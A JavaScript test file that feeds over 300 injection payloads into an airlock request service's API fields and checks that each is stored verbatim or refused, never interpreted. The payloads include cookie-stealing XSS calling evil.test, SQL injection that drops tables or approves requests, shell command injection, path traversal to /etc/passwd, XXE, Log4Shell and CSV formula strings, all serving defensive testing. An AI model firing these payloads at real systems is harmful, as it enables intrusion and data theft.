// T33: texts that mean something to a browser, a template, a shell, a database, a log or an eye. Each is stored and given
// back byte for byte, or refused with 4xx; none is ever interpreted, and none reaches the database but as a bound value.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import test from 'node:test';
import { draftWith, inReview, ROOT, runOk, startTree, UNLIMITED } from './harness.mjs';
import { inLanes } from './lib/races.mjs';

const crossed = (heads, tails) => heads.flatMap((head) => tails.map((tail) => `${head}${tail}`));

const SCRIPTS = crossed(
  ['<script>', '<img src=x onerror=', '<svg/onload=', '"><script>', "'><img src=x onerror=", '</title><script>', '<iframe srcdoc=', 'javascript:',
    '<a href="javascript:', '<body onload=', '<details open ontoggle=', '<math><mi//xlink:href="data:x,<script>'],
  ['alert(1)', 'alert(1)</script>', 'fetch("//evil.test/"+document.cookie)', '`alert`1``', '&#97;lert(1)>', 'confirm(document.domain)//']);
const TEMPLATES = crossed(['{{', '${', '#{', '<%=', '{%', '$((', '[[${', '@('], ['7*7}}', '7*7}', '7*7%>', 'config.items()}}', '"a".getClass()}', '1;%}']);
const SQL = crossed(
  ["'", '"', "')", '";', "x' ", '\\\'', '%27 '],
  ['; DROP TABLE requests; --', ' OR 1=1 --', ' UNION SELECT * FROM people --', '; UPDATE requests SET status=\'approved\'; --',
    ' || (SELECT group_concat(sql) FROM sqlite_master) || ', '; ATTACH DATABASE \'/tmp/x\' AS x; --', '; PRAGMA writable_schema=1; --', '/**/OR/**/1=1#']);
const LINES = crossed(['a\r\n', 'a\n', 'a\r', 'a%0d%0a', 'a\u2028', 'a\u0085'], ['Set-Cookie: x=1', '\r\nHTTP/1.1 200 OK', '{"level":"info"}', 'Subject: hi']);
const CONTROLS = ['\u0000', 'a\u0000b', '\u0001', '\u0007', '\u0008', '\u001b[2J', '\u001b]0;x\u0007', '\u007f', '\u009b31m', '%00', '\\u0000', '\ufeff', '\ufffe', '\uffff'];
const EYES = ['\u202e', '\u202d', '\u2066', '\u2069', '\u200b', '\u200d', '\u00ad', '\u3164', '\u{e0001}', '\u0301'.repeat(50), 'аdmin', 'ﷺ', '👩‍👩‍👧', '\u{1f4a9}']
  .flatMap((mark) => [mark, `gnp${mark}txt.exe`, mark.repeat(20)]);
const OTHERS = ['', ' ', '\t', '-', '--help', '-rf /', '../../etc/passwd', '..\\..\\x', 'file:///etc/passwd', '\\\\evil\\share', '$(id)', '`id`', '|id', ';id', '&&id',
  '%s%n%x', '%p'.repeat(50), '=1+1', '=cmd|\'/c calc\'!A1', '+1', '@SUM(1)', 'NULL', 'null', 'undefined', 'NaN', 'true', '[]', '{}', '__proto__', 'constructor',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', '*)(uid=*))(|(uid=*', '${jndi:ldap://evil.test/a}', '() { :;}; id',
  '\ud800', '\udc00x', '1e309', '9'.repeat(400), 'x'.repeat(200), 'x'.repeat(201), 'x'.repeat(10_000), 'x'.repeat(10_001), 'é'.repeat(20_000), '<'.repeat(300_000)];
const PAYLOADS = [...SCRIPTS, ...TEMPLATES, ...SQL, ...LINES, ...CONTROLS, ...EYES, ...OTHERS];

const sql = async (tree, text) => (await runOk('sqlite3', ['-readonly', path.join(tree.dir, 'state/airlock.db'), text])).stdout;
const refused = (answer) => answer.status >= 400 && answer.status < 500;

/** An answer that no browser takes for a page, and that is no failure of the server. */
function checkAnswer(answer, what) {
  assert.ok(answer.status < 500, `${what}: ${answer.status} ${answer.text.slice(0, 300)}`);
  assert.match(answer.headers['content-type'], /^application\/(problem\+)?json$/, what);
  assert.equal(answer.headers['x-content-type-options'], 'nosniff');
  assert.equal(answer.headers['set-cookie'], undefined, what);
}

test(`T33 ${PAYLOADS.length} payloads in every text`, { timeout: 600_000 }, async (t) => {
  assert.ok(PAYLOADS.length >= 300);
  const tree = await startTree(t, { set: UNLIMITED });
  const [alice, bob, carol, admin] = ['alice', 'bob', 'carol', 'admin'].map((name) => tree.as(name));
  const list = `/workspaces/${tree.first.id}/requests`;
  const bystander = await draftWith(tree, 'export', { 'a.csv': 'a,b\n' }, 'dave');
  const before = { schema: await sql(tree, '.schema'), bystander: await tree.as('dave').show(bystander) };
  const taken = {};
  const count = (field, answer) => (taken[field] = (taken[field] ?? 0) + (answer.status < 300));

  await t.test('title and justification', () => inLanes(PAYLOADS.length, async (i) => {
    const payload = PAYLOADS[i];
    for (const field of ['title', 'businessJustification', 'type']) {
      const body = { type: 'export', title: 'T', businessJustification: 'J', [field]: payload };
      const answer = await alice.call('POST', list, body);
      checkAnswer(answer, `${field} ${JSON.stringify(payload).slice(0, 80)}`);
      count(field, answer);
      if (refused(answer)) continue;
      assert.equal(answer.status, 201);
      const shown = await alice.show({ workspace: tree.first.id, id: answer.body.airlockRequest.id });
      for (const request of [answer.body.airlockRequest, shown]) assert.equal(request[field], payload);
    }
  }));
  await t.test('parameters of lists', () => inLanes(PAYLOADS.length, async (i) => {
    const payload = PAYLOADS[i].slice(0, 2000).toWellFormed();
    for (const field of ['order_by', 'cursor', 'status', 'type', 'creator_user_id', 'order_ascending', 'limit', 'unknown']) {
      const answer = await alice.call('GET', `${list}?${field}=${encodeURIComponent(payload)}`);
      checkAnswer(answer, `${field} ${JSON.stringify(payload).slice(0, 80)}`);
      if (['order_by', 'status', 'type'].includes(field) && payload) assert.ok(refused(answer), `${field} ${payload}: ${answer.status}`);
      if (field === 'creator_user_id' && payload && answer.status === 200) assert.deepEqual(answer.body.airlockRequests, []);
    }
    for (const field of ['request', 'cursor', 'limit']) checkAnswer(await admin.call('GET', `/admin/audit?${field}=${encodeURIComponent(payload)}`), field);
  }));
  await t.test('a workspace\'s name and description', () => inLanes(PAYLOADS.length, async (i) => {
    const answer = await admin.call('PATCH', `/workspaces/${tree.second.id}`, { properties: { display_name: PAYLOADS[i], description: PAYLOADS[i] } }, { headers: { etag: '*' } });
    checkAnswer(answer, JSON.stringify(PAYLOADS[i]).slice(0, 80));
    count('workspace', answer);
    if (answer.status < 300) assert.equal(answer.body.workspace.properties.display_name, PAYLOADS[i]);
  }, 1));
  await t.test('explanations of decisions', async () => {
    const texts = PAYLOADS.filter((text) => text.length < 1000 && text.isWellFormed() && !/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\ufffe\uffff]/.test(text));
    const explanation = texts.join(' | ').slice(0, 9000);
    const request = await inReview(tree, 'export', { 'a.csv': 'a,b\n' });
    for (const payload of ['\u0000', '\ud800', 'x'.repeat(10_001)]) assert.ok(refused(await bob.review(request, true, request.digest, payload)), JSON.stringify(payload.slice(0, 9)));
    assert.equal((await bob.review(request, true, request.digest, explanation)).status, 200);
    const approved = await alice.waitStatus(request, 'approved');
    assert.equal(approved.reviews[0].decisionExplanation, explanation);
    assert.equal((await carol.revoke(request, explanation)).status, 200);
    assert.equal((await alice.show(request)).reviews[1].decisionExplanation, explanation);
  });

  t.diagnostic(`taken: ${JSON.stringify(taken)} of ${PAYLOADS.length}`);
  assert.ok(taken.title > 150 && taken.businessJustification > 150 && taken.type === 0, 'most are just texts');
  assert.equal(await sql(tree, '.schema'), before.schema, 'the schema is what it was');
  assert.deepEqual(await tree.as('dave').show(bystander), before.bystander, 'another request is what it was');
  assert.equal((await sql(tree, 'PRAGMA integrity_check')).trim(), 'ok');
  assert.equal((await sql(tree, "SELECT count(*) FROM request WHERE status = 'approved'")).trim(), '0');
});

test('T33 no SQL text is made from a value: every query stands in sql/, by name', () => {
  const sources = fs.readdirSync(path.join(ROOT, 'src'), { recursive: true }).filter((name) => /\.[ch]$/.test(name));
  const uses = sources.filter((name) => /sqlite3_(prepare|exec|mprintf)/.test(fs.readFileSync(path.join(ROOT, 'src', name), 'utf8')));
  assert.deepEqual(uses.filter((name) => !name.startsWith('db/')), [], 'only the database\'s driver speaks SQL');
  const interface_ = fs.readFileSync(path.join(ROOT, 'src/db/db.h'), 'utf8');
  assert.match(interface_, /db_exec\(struct db \*\w+, enum db_query/, 'a query is a name, never a text');
  assert.match(interface_, /db_select\(struct db \*\w+, enum db_query/);
});
